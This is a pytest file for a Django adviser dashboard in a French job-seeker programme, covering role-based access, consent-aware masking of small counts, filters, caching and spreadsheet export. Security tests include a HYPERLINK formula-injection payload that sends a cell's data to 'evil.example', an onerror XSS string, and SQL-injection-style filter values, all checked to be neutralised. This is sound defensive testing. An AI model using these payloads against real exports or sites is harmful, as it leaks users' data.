import io
from html import unescape

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from declics.notifications.models import OutboxMessage
from programs.figures_cache import figures_changed
from programs.models import Enrolment, SessionEmailInvitation
from tests.factories import MentorFactory, PartnerUserFactory, StaffFactory, UserFactory
from tests.programs.factories import EnrolmentFactory

from .conftest import progress
from .factories import agency_adviser

FORBIDDEN, NOT_FOUND, OK = 403, 404, 200


def _urls(world):
    slug = world.session.slug
    return {
        "sessions": reverse("programs:adviser_sessions"),
        "dashboard": reverse("programs:adviser_dashboard", args=[slug]),
        "person": reverse("programs:adviser_person", args=[slug, world.alice.public_id]),
        "export": reverse("programs:adviser_export", args=[slug]),
        "invite": reverse("programs:adviser_invite", args=[slug]),
        "agencies": reverse("programs:adviser_agencies"),
        "impact": reverse("programs:impact_dashboard"),
    }


# role → view → expected status (anonymous users are sent to the login page: 302).
MATRIX = {
    "anonymous": dict.fromkeys(
        ["sessions", "dashboard", "person", "export", "invite", "agencies", "impact"], 302
    ),
    "job_seeker": dict.fromkeys(
        ["sessions", "dashboard", "person", "export", "invite", "agencies", "impact"], FORBIDDEN
    ),
    "mentor": dict.fromkeys(
        ["sessions", "dashboard", "person", "export", "invite", "agencies", "impact"], FORBIDDEN
    ),
    "partner": dict.fromkeys(
        ["sessions", "dashboard", "person", "export", "invite", "agencies", "impact"], FORBIDDEN
    ),
    "adviser": {
        "sessions": OK,
        "dashboard": OK,
        "person": OK,
        "export": OK,
        "invite": OK,
        "agencies": FORBIDDEN,
        "impact": FORBIDDEN,
    },
    "colleague": {
        "sessions": OK,
        "dashboard": OK,
        "person": NOT_FOUND,  # Alice is not theirs
        "export": OK,
        "invite": OK,
        "agencies": FORBIDDEN,
        "impact": FORBIDDEN,
    },
    "head": {
        "sessions": OK,
        "dashboard": OK,
        "person": OK,
        "export": OK,
        "invite": OK,
        "agencies": FORBIDDEN,
        "impact": FORBIDDEN,
    },
    "outsider": {  # an adviser of an agency elsewhere, with nobody in this session
        "sessions": OK,
        "dashboard": NOT_FOUND,
        "person": NOT_FOUND,
        "export": NOT_FOUND,
        "invite": NOT_FOUND,
        "agencies": FORBIDDEN,
        "impact": FORBIDDEN,
    },
    "staff": {
        "sessions": OK,
        "dashboard": OK,
        "person": OK,
        "export": OK,
        "invite": NOT_FOUND,  # staff do not invite as an adviser
        "agencies": OK,
        "impact": OK,
    },
}


def _user(world, role):
    from programs.models import Agency

    return {
        "anonymous": lambda: None,
        "job_seeker": UserFactory,
        "mentor": MentorFactory,
        "partner": PartnerUserFactory,
        "adviser": lambda: world.adviser,
        "colleague": lambda: world.colleague,
        "head": lambda: world.head,
        "outsider": lambda: agency_adviser(
            agency=Agency.objects.create(
                name="Cap emploi Toulouse", kind="cap_emploi", departement=world.garonne
            )
        ),
        "staff": StaffFactory,
    }[role]()


@pytest.mark.parametrize(
    ("role", "view", "expected"),
    [(role, view, status) for role, views in MATRIX.items() for view, status in views.items()],
)
def test_adviser_views_role_matrix(client, world, role, view, expected):
    user = _user(world, role)
    if user is not None:
        client.force_login(user)
    response = client.get(_urls(world)[view])
    response.close()  # the export streams a temporary file
    assert response.status_code == expected
    if expected == 302:
        assert response.url.startswith(reverse("account_login"))


def test_dashboard_lists_only_consenting_people_and_counts_everyone(client, world):
    client.force_login(world.adviser)
    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
    assert [row.name for row in response.context["rows"]] == ["Alice Martin", "Bruno Petit"]
    html = unescape(response.content.decode())
    assert "Chloe" not in html
    funnel = {str(stage.label): stage.figure for stage in response.context["funnel"]}
    # Three people named the adviser (Chloé too): counted, but shown "moins de 5".
    assert (funnel["Inscrit·es"].count, funnel["Inscrit·es"].display) == (3, "moins de 5")
    assert funnel["Étape 1 terminée"].count == 2
    assert funnel["Étape 2 terminée"].count == 1


def test_dashboard_rows_show_current_step_states_and_stuck_flag(client, world):
    client.force_login(world.adviser)
    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
    alice, bruno = response.context["rows"]
    assert (alice.current_step, [s for _n, s, _l in alice.states], alice.stuck) == (
        3,
        ["done", "done", "open", "locked", "locked", "locked"],
        False,
    )
    assert (bruno.current_step, bruno.zone, bruno.stuck) == (1, "FRR/ZRR", True)


def test_funnel_figures_on_a_crafted_dataset(client, world):
    """Staff see the whole session: 5 people, 3 of whom did step 1, plus 6 e-mail invitations."""
    progress(world.damien, 1)
    for n in range(6):
        SessionEmailInvitation.objects.create(
            session=world.session, adviser=world.adviser, email=f"p{n}@example.org"
        )
    SessionEmailInvitation.objects.create(
        session=world.session, adviser=world.adviser, email="alice@example.org"
    )
    client.force_login(StaffFactory())
    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
    figures = [(str(s.label), s.figure.display, s.figure.share_display) for s in response.context["funnel"]]
    # Invited: 7 addresses e-mailed + 4 people who came without an e-mail (all but Alice) = 11.
    assert figures[:4] == [
        ("Invité·es", "11", "—"),
        ("Inscrit·es", "5", "45 %"),
        ("Étape 1 terminée", "moins de 5", "masquée"),  # 3 of 5: both 3 and the other 2 are small
        ("Étape 2 terminée", "moins de 5", "masquée"),
    ]


def test_funnel_masks_a_figure_whose_rest_is_a_small_group_and_says_so_in_words(client, world):
    """38 of 40 invited people enrolled: "38" would give the 2 others away. It read "> 35 / n. d."."""
    world.chloe.share_with_adviser = True  # everyone shares: only the 2 not enrolled are to protect
    world.chloe.save(update_fields=["share_with_adviser"])
    for n in range(37):
        SessionEmailInvitation.objects.create(
            session=world.session, adviser=world.adviser, email=f"p{n}@example.org"
        )
    for n in range(35):  # with Alice, Bruno and Chloé (who came through the link): 38
        EnrolmentFactory(
            session=world.session,
            adviser=world.adviser,
            share_with_adviser=True,
            job_seeker=UserFactory(email=f"p{n}@example.org"),
        )
    client.force_login(world.adviser)
    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
    figures = {str(s.label): (s.figure.display, s.figure.share_display) for s in response.context["funnel"]}
    # Invited: 37 e-mailed + Alice, Bruno and Chloé, who came through the link = 40. The 38 are
    # listed one by one below (everyone shares): masking "38" would hide nothing, so the 40 is.
    assert figures["Invité·es"] == ("masqué", "—")
    assert figures["Inscrit·es"] == ("38", "masquée")
    html = unescape(response.content.decode())
    assert "« masqué » un chiffre caché pour qu'on ne puisse pas retrouver un petit groupe" in html
    assert 'aria-describedby="funnel-note"' in html
    assert "n. d." not in html
    assert "> 35" not in html


def test_funnel_does_not_give_away_the_progress_of_people_who_did_not_consent(client, world):
    """The table lists the 10 consenting people who did step 1; the funnel counts everyone. Were
    it to show 12, the adviser would learn that the 2 people who did not consent did step 1."""
    for _ in range(10):
        progress(EnrolmentFactory(session=world.session, adviser=world.adviser, share_with_adviser=True), 1)
    progress(EnrolmentFactory(session=world.session, adviser=world.adviser, share_with_adviser=False), 1)
    # With Alice (consents) and Chloé (does not): 11 seen, 2 unseen did step 1.
    client.force_login(world.adviser)
    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
    funnel = {str(stage.label): stage.figure for stage in response.context["funnel"]}
    assert (funnel["Étape 1 terminée"].count, funnel["Étape 1 terminée"].display) == (13, "masqué")
    # Staff see everyone one by one: nothing to protect from the table. With Bruno, Damien and
    # Élise done too, all 16 did step 1 (no small rest either): the figure is shown.
    for enrolment in (world.bruno, world.damien, world.elise):
        progress(enrolment, 1)
    client.force_login(StaffFactory())
    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
    funnel = {str(stage.label): stage.figure for stage in response.context["funnel"]}
    assert (funnel["Étape 1 terminée"].display, funnel["Étape 1 terminée"].share_display) == ("16", "100 %")


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"etape": "3"}, ["Alice Martin"]),
        ({"etape": "1"}, ["Bruno Petit"]),
        ({"bloque": "on"}, ["Bruno Petit"]),
        ({"commune": "lodève"}, ["Bruno Petit"]),
        ({"commune": "34172"}, ["Alice Martin"]),
        ({"zone": "qpv"}, ["Alice Martin"]),
        ({"q": "petit"}, ["Bruno Petit"]),
        ({"tri": "-nom"}, ["Bruno Petit", "Alice Martin"]),
        ({"tri": "-etape"}, ["Alice Martin", "Bruno Petit"]),
        ({"tri": "activite"}, ["Bruno Petit", "Alice Martin"]),
        ({"tri": "'; drop table"}, ["Alice Martin", "Bruno Petit"]),  # tampered: ignored
        ({"etape": "99"}, ["Alice Martin", "Bruno Petit"]),
    ],
)
def test_dashboard_filters_and_sorts(client, world, query, expected):
    client.force_login(world.adviser)
    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]), query)
    assert [row.name for row in response.context["rows"]] == expected


@pytest.mark.parametrize("rows", [1, 3])
def test_adviser_dashboard_query_count_is_constant(client, django_assert_num_queries, world, rows):
    adviser = agency_adviser(agency=world.agency)
    for _ in range(rows):
        enrolment = EnrolmentFactory(session=world.session, adviser=adviser, share_with_adviser=True)
        progress(enrolment, 1)
    client.force_login(adviser)
    url = reverse("programs:adviser_dashboard", args=[world.session.slug])
    # 4 of the page's own + 1 to find the session's id for its figures version (cached for good
    # afterwards) + login session and user + 3 to save the session (the first request after login).
    with django_assert_num_queries(10):
        response = client.get(url, {"tri": "etape"})
    assert len(response.context["rows"]) == rows


@pytest.mark.parametrize("rows", [1, 3])
def test_adviser_person_query_count_is_constant(client, django_assert_num_queries, world, rows):
    from .test_person import MAKERS, panel_rows

    for n in range(rows):
        for make in MAKERS.values():
            make(world.alice, f"n{n}")
    client.force_login(world.adviser)
    url = reverse("programs:adviser_person", args=[world.session.slug, world.alice.public_id])
    # 9 of the page's own (the enrolment, the steps with the progress, one per panel: talks,
    # assessment, mentoring requests and mentorships, workshops, meetings, applications) + login
    # session and user + 3 to save the session (first request after login).
    with django_assert_num_queries(14):
        response = client.get(url)
    shown = panel_rows(response)
    for panel in MAKERS:
        assert len(shown[panel]) == (1 if panel == "shared_assessments" else rows), panel
    assert response.context["done_count"] == 2


def test_person_of_another_adviser_or_without_consent_is_not_found(client, world):
    client.force_login(world.adviser)
    for enrolment in (world.chloe, world.damien, world.elise):
        response = client.get(
            reverse("programs:adviser_person", args=[world.session.slug, enrolment.public_id])
        )
        assert response.status_code == NOT_FOUND
        assert enrolment.job_seeker.last_name not in response.content.decode()


def _sheet(response):
    content = b"".join(response.streaming_content)
    response.close()
    return load_workbook(io.BytesIO(content)).active


def test_export_contains_the_filtered_table(client, world):
    client.force_login(world.adviser)
    response = client.get(reverse("programs:adviser_export", args=[world.session.slug]), {"bloque": "on"})
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'attachment; filename="declics-declics-herault-' in response["Content-Disposition"]
    sheet = _sheet(response)
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][:5] == [
        "Prénom et nom",
        "E-mail ou téléphone",
        "Commune",
        "QPV ou FRR/ZRR",
        "Étape en cours",
    ]
    assert len(rows) == 2
    assert rows[1][:5] == ["Bruno Petit", "bruno@example.org", "Lodève", "FRR/ZRR", "Étape 1"]
    assert rows[1][5:11] == [
        "ouverte",
        "ouverte",
        "ouverte",
        "pas encore ouverte",
        "pas encore ouverte",
        "pas encore ouverte",
    ]
    assert rows[1][12] == "oui"


def test_export_of_everyone_never_includes_people_who_did_not_consent(client, world):
    client.force_login(world.head)
    response = client.get(reverse("programs:adviser_export", args=[world.session.slug]))
    sheet = _sheet(response)
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "Alice Martin",
        "Bruno Petit",
        "Damien Roux",
    ]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "＝"])
def test_export_writes_formula_like_names_as_inert_text(client, world, prefix):
    payload = f'{prefix}HYPERLINK("https://evil.example/?"&B2,"Voir")'
    world.alice.job_seeker.first_name = payload
    world.alice.job_seeker.save(update_fields=["first_name"])
    client.force_login(world.adviser)
    response = client.get(reverse("programs:adviser_export", args=[world.session.slug]), {"q": "martin"})
    sheet = _sheet(response)
    cell = sheet["A2"]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", f"{payload} Martin", True)
    assert sheet["B2"].value == "alice@example.org"


def test_export_with_a_tampered_filter_is_refused(client, world):
    client.force_login(world.adviser)
    response = client.get(
        reverse("programs:adviser_export", args=[world.session.slug]), {"etape": "1 or 1=1"}
    )
    assert response.status_code == 400
    assert "Ces filtres ne sont pas valides." in unescape(response.content.decode())


def test_invite_by_email_queues_one_message_per_new_address(client, world):
    client.force_login(world.adviser)
    url = reverse("programs:adviser_invite", args=[world.session.slug])
    response = client.post(url, {"emails": "Zoe@example.org\nyann@example.org, zoe@example.org"})
    assert response.status_code == 302
    client.post(url, {"emails": "zoe@example.org"})
    invitations = SessionEmailInvitation.objects.filter(adviser=world.adviser).order_by("email")
    assert list(invitations.values_list("email", flat=True)) == ["yann@example.org", "zoe@example.org"]
    messages = OutboxMessage.objects.filter(dedup_key__startswith="programs:adviser-invitation:")
    assert sorted(messages.values_list("to_email", flat=True)) == ["yann@example.org", "zoe@example.org"]
    assert "?conseiller=" in messages.first().body_text


def test_invite_with_a_bad_address_says_which(client, world):
    client.force_login(world.adviser)
    response = client.post(
        reverse("programs:adviser_invite", args=[world.session.slug]),
        {"emails": "ok@example.org\npas-une-adresse"},
    )
    assert response.status_code == 400
    assert "Adresse e-mail invalide : pas-une-adresse" in unescape(response.content.decode())
    assert not SessionEmailInvitation.objects.exists()


def test_funnel_counts_steps_and_satisfaction_surveys_of_active_people_only(client, world):
    """Six people did steps 1-2 and answered the survey; one of them withdrew: not counted."""
    from django.utils import timezone

    from programs.models import SurveyKind, SurveyResponse

    now = timezone.now()
    people = [EnrolmentFactory(session=world.session, adviser=world.adviser) for _ in range(6)]
    for enrolment in people:
        progress(enrolment, 1, 2)
        SurveyResponse.objects.create(
            enrolment=enrolment, kind=SurveyKind.SATISFACTION, sent_at=now, answered_at=now, overall=5
        )
    SurveyResponse.objects.create(  # sent, not answered: not counted
        enrolment=world.alice, kind=SurveyKind.SATISFACTION, sent_at=now
    )
    people[0].status = "withdrawn"
    people[0].save(update_fields=["status"])
    client.force_login(world.adviser)
    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
    counts = {str(stage.label): stage.figure.count for stage in response.context["funnel"]}
    # Alice, Bruno, Chloé + 5 active of the 6: 8 enrolled; step 1 by Alice, Chloé and the 5.
    assert counts["Inscrit·es"] == 8
    assert (counts["Étape 1 terminée"], counts["Étape 2 terminée"], counts["Étape 3 terminée"]) == (7, 6, 0)
    assert counts["Questionnaire de satisfaction rempli"] == 5


def test_dashboard_rows_render_their_link_step_cells_and_last_activity(client, world):
    from programs.templatetags.french_dates import full_date

    client.force_login(world.adviser)
    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
    html = response.content.decode()
    alice_url = reverse("programs:adviser_person", args=[world.session.slug, world.alice.public_id])
    assert f'<a href="{alice_url}">Alice Martin</a>' in html
    alice_row = html.split(alice_url)[1].split("</tr>")[0]
    assert alice_row.count('<span aria-hidden="true">✔</span>') == 2
    assert alice_row.count('<span aria-hidden="true">○</span>') == 1
    assert alice_row.count('<span aria-hidden="true">·</span>') == 3
    assert '<td data-label="Étape en cours">Étape 3</td>' in alice_row
    # In full French ("1er juin 2020"), never "1 Jui 2020" (issue 14, item 10).
    assert f'<td data-label="Dernière activité">{full_date(world.alice.last_activity_at)}</td>' in alice_row


def test_dashboard_rows_escape_what_people_typed_and_say_each_column_in_the_pages_language(client, world):
    world.alice.job_seeker.first_name = '<img src=x onerror="alert(1)">'
    world.alice.job_seeker.save(update_fields=["first_name"])
    client.force_login(world.adviser)

    html = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug])).content.decode()
    world.adviser.language = "en"  # the account's language wins once signed in
    world.adviser.save(update_fields=["language"])
    english = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug])).content.decode()

    assert "<img src=x" not in html and "&lt;img src=x onerror=&quot;alert(1)&quot;&gt; Martin" in html
    bruno_url = reverse("programs:adviser_person", args=[world.session.slug, world.bruno.public_id])
    bruno_row = html.split(bruno_url)[1].split("</tr>")[0]
    zone_badge = '<span class="badge text-bg-light">FRR/ZRR</span>'
    assert f'<td data-label="Commune">Lodève {zone_badge}</td>' in bruno_row
    assert '<td data-label="Bloqué·e"><span class="badge text-bg-warning">bloqué·e</span></td>' in bruno_row
    alice_url = reverse("programs:adviser_person", args=[world.session.slug, world.alice.public_id])
    assert '<td data-label="Bloqué·e">non</td>' in html.split(alice_url)[1].split("</tr>")[0]
    assert 'data-label="Name"' in english and 'data-label="Prénom et nom"' not in english


def test_a_warm_dashboard_reads_the_cache_in_three_round_trips(client, world, monkeypatch):
    """The session's id and figures version, then its header, funnel and people's order together."""
    from django.core.cache import caches

    client.force_login(world.adviser)
    url = reverse("programs:adviser_dashboard", args=[world.session.slug])
    client.get(url)
    cache = caches["default"]
    reads, inside = [], []  # local memory's get_many calls its own get: count the outer call only

    def spy(name, original):
        def read(*args, **kwargs):
            if not inside:
                reads.append(name)
            inside.append(name)
            try:
                return original(*args, **kwargs)
            finally:
                inside.pop()

        return read

    for name in ("get", "get_many"):
        monkeypatch.setattr(cache, name, spy(name, getattr(cache, name)))

    response = client.get(url)
    sorted_by_step = client.get(url, {"tri": "etape"})

    assert response.status_code == sorted_by_step.status_code == 200
    assert reads == ["get", "get", "get_many"] * 2


def test_dashboard_funnel_session_and_order_are_cached_a_minute_and_the_rows_are_live(
    client, django_assert_num_queries, django_capture_on_commit_callbacks, world
):
    client.force_login(world.adviser)
    url = reverse("programs:adviser_dashboard", args=[world.session.slug])
    client.get(url)
    # Written without the services: the session's figures version does not move.
    newcomer = EnrolmentFactory(session=world.session, adviser=world.adviser, share_with_adviser=True)
    progress(world.alice, 3)
    # The page's rows; login session and user (the session is not saved again).
    with django_assert_num_queries(3):
        response = client.get(url)
    rows = {row.enrolment.pk: row for row in response.context["rows"]}
    assert newcomer.pk not in rows  # who is listed follows the figures, like the funnel
    assert rows[world.alice.pk].current_step == 4  # each row's progress is live
    counts = {str(stage.label): stage.figure.count for stage in response.context["funnel"]}
    assert counts["Inscrit·es"] == 3  # as a minute ago

    # A person no longer shown to the adviser leaves the table at once, whatever is cached.
    Enrolment.objects.filter(pk=world.bruno.pk).update(share_with_adviser=False)
    assert world.bruno.pk not in [row.enrolment.pk for row in client.get(url).context["rows"]]

    # Once the session's figures change (a service calls `figures_changed`), the newcomer is listed.
    with django_capture_on_commit_callbacks(execute=True):
        figures_changed(world.session.pk)
    rows = [row.enrolment.pk for row in client.get(url).context["rows"]]
    assert newcomer.pk in rows and world.bruno.pk not in rows


def test_dashboard_filtered_table_is_counted_and_paged_live(client, world):
    client.force_login(world.adviser)
    url = reverse("programs:adviser_dashboard", args=[world.session.slug])
    client.get(url, {"q": "Martin"})
    EnrolmentFactory(
        session=world.session,
        adviser=world.adviser,
        share_with_adviser=True,
        job_seeker__first_name="Zoé",
        job_seeker__last_name="Martin",
    )
    response = client.get(url, {"q": "Martin"})
    assert sorted(row.name for row in response.context["rows"]) == ["Alice Martin", "Zoé Martin"]


def test_dashboard_pages_through_the_cached_order(client, world, monkeypatch):
    from programs.advisers import views

    monkeypatch.setattr(views, "PAGE_SIZE", 1)
    client.force_login(world.adviser)
    url = reverse("programs:adviser_dashboard", args=[world.session.slug])
    names = [client.get(url, {"page": n}).context["rows"][0].name for n in (1, 2)]
    assert names == ["Alice Martin", "Bruno Petit"]
    assert client.get(url, {"page": 2}).context["page"].paginator.count == 2
